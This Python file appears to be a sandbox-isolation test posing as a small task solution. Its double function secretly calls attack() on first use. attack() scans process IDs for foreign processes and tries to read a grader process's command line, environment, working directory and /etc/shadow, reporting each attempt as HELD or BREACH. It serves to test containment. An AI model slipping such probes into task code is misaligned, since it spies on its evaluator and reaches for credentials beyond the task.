"""Asks for every number there may be, and for what each process is."""

import errno
import os

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


HIGHEST = 70_000


def exists(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    return True


def find_foreign():
    """Processes that are there by their number and not in our own tree, which has few and low numbers."""
    seen = [pid for pid in range(1, HIGHEST) if exists(pid)]
    listed = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    print("TRIED", HIGHEST, "numbers;", "few" if len(seen) < 32 else "many", "are there")
    threads = {int(task) for pid in listed for task in list_tasks(pid)}
    hidden = [pid for pid in set(seen) - listed - threads if exists(pid)]  # others end meanwhile
    return sorted(hidden)[:10] or (len(listed) > 32 and sorted(listed))


def list_tasks(pid):
    try:
        return os.listdir(f"/proc/{pid}/task")
    except OSError:
        return []


def find_grader():
    with open("/proc/@GRADER_PID@/cmdline") as file:
        line = file.read()
    return line if "grade" in line or "pytest" in line else None


def attack():
    attempt("numbers of others", find_foreign)
    attempt("the grader's process", find_grader)
    for name in ("root/etc/shadow", "cwd", "environ"):
        attempt(f"the grader's {name}", lambda: open(f"/proc/@GRADER_PID@/{name}").read() if "grade" in str(find_grader()) else None)
    attempt("loads of others", lambda: [n for n in os.listdir("/proc/1/task") if n != "1"] if os.getpid() == 1 else None)


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
